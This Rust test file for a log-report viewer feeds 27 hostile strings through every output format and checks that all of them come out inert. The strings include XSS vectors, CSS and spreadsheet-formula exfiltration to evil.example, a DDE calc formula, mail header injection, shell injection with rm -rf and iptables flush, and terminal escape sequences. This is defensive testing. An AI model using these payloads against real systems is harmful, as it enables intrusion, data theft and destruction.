//! Payloads through every field into every place: a table of attacks, a table of places, and what must hold
//! in a place of each kind. A new place (a file that is saved, a clipboard) is one line in `PLACES`.
//!
//! `hostile.rs` looks at one attack in depth; here many are sent everywhere.

mod sample;

use logyomi_core::report::Report;
use logyomi_view::block::{Choice, Format, propose, rules};
use logyomi_view::csv::{self, Which};
use logyomi_view::ecs::EcsLine;
use logyomi_view::html::{self, ATTRIBUTES, ELEMENTS};
use logyomi_view::letter::{About, Letters};
use logyomi_view::state::{RowId, ViewState};
use logyomi_view::visible::is_hidden;
use logyomi_view::words::Lang;
use logyomi_view::{json, text};
use serde_json::Value;

/// Stands in every payload, so that a place can be searched for it.
const MARK: &str = "zqx7";

const PAYLOADS: [(&str, &str); 27] = [
    ("script", "<script>zqx7()</script>"),
    ("image", "<img src=x onerror=zqx7()>"),
    ("svg", "<svg/onload=zqx7()>"),
    (
        "style element",
        "</style><style>*{background:url(//evil.example/zqx7)}</style>",
    ),
    ("end of a title", "</title></textarea></noscript><p>zqx7"),
    ("comment", "--><!--zqx7"),
    ("attribute, double", "\" onmouseover=\"zqx7()\" x=\""),
    ("attribute, single", "' autofocus onfocus='zqx7()"),
    ("attribute, bare", "x onclick=zqx7()"),
    ("entity", "&lt;script&gt;zqx7&#60;/script&#62;"),
    ("script address", "javascript:zqx7()"),
    ("data address", "data:text/html,<script>zqx7()</script>"),
    ("address outside", "//evil.example/zqx7"),
    ("style", "x;background:url(https://evil.example/zqx7);"),
    ("text turned round", "zqx7\u{202e}gpj.exe\u{2066}\u{2069}"),
    ("letters of no width", "z\u{200b}zqx7\u{200d}\u{feff}\u{ad}"),
    ("terminal colours", "\u{1b}[31mzqx7\u{1b}[2J\u{9b}0m"),
    (
        "terminal link",
        "\u{1b}]8;;https://evil.example/\u{7}zqx7\u{1b}]8;;\u{7}",
    ),
    ("terminal, over the line", "zqx7\r\u{8}\u{8}\u{7f}"),
    (
        "formula",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"zqx7\")",
    ),
    ("formula, plus", "+zqx7|'/C calc'!A0"),
    ("formula, at", "@SUM(zqx7)\t=1+1"),
    (
        "mail header",
        "zqx7\r\nBcc: all@example.com\r\n\r\n.\r\nFrom zqx7",
    ),
    (
        "shell",
        "$(touch zqx7)`touch zqx7`; rm -rf zqx7 | sh & \"' \\",
    ),
    ("next line", "zqx7\niptables -F\u{2028}iptables -X\u{85}"),
    ("template", "{{zqx7}}${zqx7}<%=zqx7%>%s%n"),
    ("prototype", "__proto__\u{0}zqx7"),
];

/// What must hold in a place.
#[derive(Clone, Copy)]
enum Kind {
    /// Markup: elements, attributes and links are ours alone.
    Markup,
    /// Lines of text for a terminal, a mail or a phone call: nothing hidden, no line that a stranger begins.
    Lines,
    /// Data: comes back as it was, one value a line at most.
    Data,
    /// A table for spreadsheets: as `Lines`, and no cell that begins a formula.
    Cells,
    /// Commands and settings: not a word of a stranger's.
    Rules,
}

type Place = (&'static str, Kind, fn(&Report, Lang) -> Vec<String>);

const PLACES: [Place; 9] = [
    ("page", Kind::Markup, |report, lang| {
        vec![html::report(report, &state(report, lang))]
    }),
    ("page, filtered", Kind::Markup, |report, lang| {
        let filter = MARK.to_owned();
        let base = state(report, lang);
        vec![html::report(report, &ViewState { filter, ..base })]
    }),
    ("saved page", Kind::Markup, |report, lang| {
        vec![html::document(report, &state(report, lang), "a { }")]
    }),
    ("text", Kind::Lines, |report, lang| {
        vec![text::text(report, lang)]
    }),
    ("drafts", Kind::Lines, |report, lang| {
        [true, false]
            .into_iter()
            .flat_map(|masked| drafts(report, masked, lang))
            .collect()
    }),
    ("tables as CSV", Kind::Cells, |report, lang| {
        let names = csv::names(report).into_iter();
        names
            .filter_map(|name| csv::csv(report, &Which::of(&name)?, lang))
            .collect()
    }),
    ("report as JSON", Kind::Data, |report, _| {
        vec![json::json(report)]
    }),
    ("lines as JSON", Kind::Data, |report, _| lines(report)),
    ("block rules", Kind::Rules, |report, lang| {
        let proposal = propose(
            report,
            &Choice {
                least: 1,
                ..Choice::default()
            },
        );
        Format::ALL
            .into_iter()
            .map(|format| rules(&proposal, format, lang))
            .collect()
    }),
];

#[test]
fn no_payload_does_anything_in_any_place() {
    let (mut tried, mut problems) = (0, Vec::new());
    for (payload, evil) in PAYLOADS {
        assert!(evil.contains(MARK), "{payload}");
        for report in [poisoned(evil, true), poisoned(evil, false)] {
            for (place, kind, write) in PLACES {
                for lang in Lang::ALL {
                    for out in write(&report, lang) {
                        let what = format!("{payload} in {place}");
                        let result = match kind {
                            Kind::Markup => markup(&what, &out),
                            Kind::Lines => text_lines(&what, &out),
                            Kind::Cells => cells(&what, &out),
                            Kind::Data => data(&what, &out, evil),
                            Kind::Rules => no_word(&what, &out),
                        };
                        problems.extend(result.err());
                        tried += 1;
                    }
                }
            }
        }
    }
    problems.dedup();
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    println!(
        "{} payloads, {} places: {tried} outputs looked at",
        PAYLOADS.len(),
        PLACES.len()
    );
}

/// A browser refuses a list that names something twice, and then the page does not start at all.
#[test]
fn each_element_and_attribute_is_named_once() {
    for list in [ELEMENTS, ATTRIBUTES] {
        let once: std::collections::BTreeSet<&&str> = list.iter().collect();
        assert_eq!(once.len(), list.len(), "{list:?}");
    }
}

/// Gives the problem back where something does not hold.
macro_rules! hold {
    ($what:expr, $($words:tt)+) => {
        if !$what {
            return Err(format!($($words)+));
        }
    };
}

fn markup(what: &str, page: &str) -> Result<(), String> {
    hold!(page.contains(MARK), "{what}: the text is not shown");
    let own = ["!DOCTYPE", "html", "head", "meta", "title", "style", "body"];
    for tag in page.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or_default();
        let name = tag
            .trim_start_matches('/')
            .split([' ', '>'])
            .next()
            .unwrap_or_default();
        let frame = own.contains(&name);
        hold!(frame || ELEMENTS.contains(&name), "{what}: <{tag}>");
        // Values are quoted and hold no quote: every second piece is a value.
        let names = tag
            .split('"')
            .step_by(2)
            .flat_map(str::split_whitespace)
            .skip(1);
        for name in names
            .map(|name| name.trim_end_matches('='))
            .filter(|name| !name.is_empty())
        {
            let ours = frame || ATTRIBUTES.contains(&name) || name.starts_with("data-");
            hold!(ours && !name.starts_with("on"), "{what}: {name} in <{tag}>");
        }
        for link in tag
            .split("href=\"")
            .skip(1)
            .chain(tag.split("src=\"").skip(1))
        {
            hold!(link.starts_with('#'), "{what}: <{tag}>");
        }
        hold!(frame || !tag.contains(" style="), "{what}: <{tag}>");
    }
    // What stands in `data-*` is looked up and not seen; all else is.
    let seen: String = page
        .split('<')
        .filter_map(|piece| piece.split_once('>'))
        .map(|(_, text)| text)
        .collect();
    let hidden = seen.chars().find(|&c| c != '\n' && is_hidden(c));
    hold!(hidden.is_none(), "{what}: {hidden:?} is hidden");
    Ok(())
}

fn text_lines(what: &str, out: &str) -> Result<(), String> {
    let hidden = out.chars().find(|&c| c != '\n' && is_hidden(c));
    hold!(hidden.is_none(), "{what}: {hidden:?} is hidden");
    for line in out.lines() {
        let start = line.trim_start();
        let begun = ["Bcc:", "From zqx7", "iptables", "."]
            .iter()
            .any(|word| start.starts_with(word));
        hold!(!begun, "{what}: {line}");
    }
    Ok(())
}

/// Cells are parted by commas and quoted where they hold one; there are no line ends inside, for those are signs.
fn cells(what: &str, out: &str) -> Result<(), String> {
    let table = out
        .strip_prefix('\u{feff}')
        .unwrap_or(out)
        .replace("\r\n", "\n");
    for line in table.lines() {
        for cell in line.split(',').map(|cell| cell.trim_start_matches('"')) {
            let begins = cell.starts_with(['=', '+', '@', '\t']);
            // What a comma inside quotes parts is no cell: only what holds the payload's first letter counts.
            hold!(!begins || !cell.contains(MARK), "{what}: {cell}");
        }
    }
    text_lines(what, &table)
}

fn data(what: &str, out: &str, evil: &str) -> Result<(), String> {
    hold!(
        !out.contains(['\n', '\r', '\u{1b}', '\0']),
        "{what}: a raw control"
    );
    let value: Value = serde_json::from_str(out).unwrap_or_default();
    let mut found = false;
    walk(&value, &mut |text| found |= text == evil);
    hold!(found, "{what}: the text does not come back as it was");
    Ok(())
}

fn no_word(what: &str, out: &str) -> Result<(), String> {
    hold!(!out.contains(MARK), "{what}:\n{out}");
    hold!(out.chars().all(|c| c == '\n' || !is_hidden(c)), "{what}");
    Ok(())
}

fn drafts(report: &Report, masked: bool, lang: Lang) -> Vec<String> {
    let letters = Letters::new(report, masked, lang);
    let findings = report.findings.iter();
    let drafts = findings.flat_map(|one| [letters.reply(one), letters.memo(one)]);
    let mails = report.attackers.iter().filter_map(|one| {
        let mail = letters.abuse(one.ip.as_deref()?, &About::default()).ok()?;
        assert!(!mail.subject.contains(['\r', '\n']), "{:?}", mail.subject);
        Some(mail.body)
    });
    drafts.chain(mails).collect()
}

fn lines(report: &Report) -> Vec<String> {
    let attackers = report.attackers.iter();
    attackers
        .map(|one| {
            let text = || one.users.first().map(|user| user.value.as_str().into());
            let line = EcsLine {
                user: text(),
                url: text(),
                host: text(),
                process: text(),
                source_address: text(),
                ..EcsLine::default()
            };
            line.to_json()
        })
        .filter(|line| line.contains(MARK))
        .collect()
}

/// Everything open that can be opened.
fn state(report: &Report, lang: Lang) -> ViewState {
    let rows = report.sections.iter().flat_map(|section| {
        section.tables.iter().map(|table| RowId {
            section: section.id.clone(),
            event: table.event.clone(),
            row: 0,
        })
    });
    ViewState {
        lang,
        rows: rows.collect(),
        ..ViewState::default()
    }
}

/// The sample with every string made hostile, by way of JSON: a field that is added later is in it too.
/// With `addresses` kept there are attackers to write rules and mails about.
fn poisoned(evil: &str, addresses: bool) -> Report {
    let mut value = serde_json::to_value(sample::report()).unwrap_or_default();
    poison(&mut value, evil, addresses);
    let report = serde_json::from_value(value);
    assert!(report.is_ok(), "{report:?}");
    report.unwrap_or_default()
}

fn poison(value: &mut Value, evil: &str, addresses: bool) {
    match value {
        Value::String(text) => *text = evil.into(),
        Value::Array(values) => values
            .iter_mut()
            .for_each(|one| poison(one, evil, addresses)),
        // The tag of a FileProblem is not text but says which variant it is.
        Value::Object(fields) => fields
            .iter_mut()
            .filter(|(key, _)| *key != "problem")
            .filter(|(key, _)| !(addresses && (*key == "ip" || *key == "address")))
            .for_each(|(_, one)| poison(one, evil, addresses)),
        _ => {}
    }
}

fn walk(value: &Value, see: &mut impl FnMut(&str)) {
    match value {
        Value::String(text) => see(text),
        Value::Array(values) => values.iter().for_each(|one| walk(one, see)),
        Value::Object(fields) => fields.values().for_each(|one| walk(one, see)),
        _ => {}
    }
}
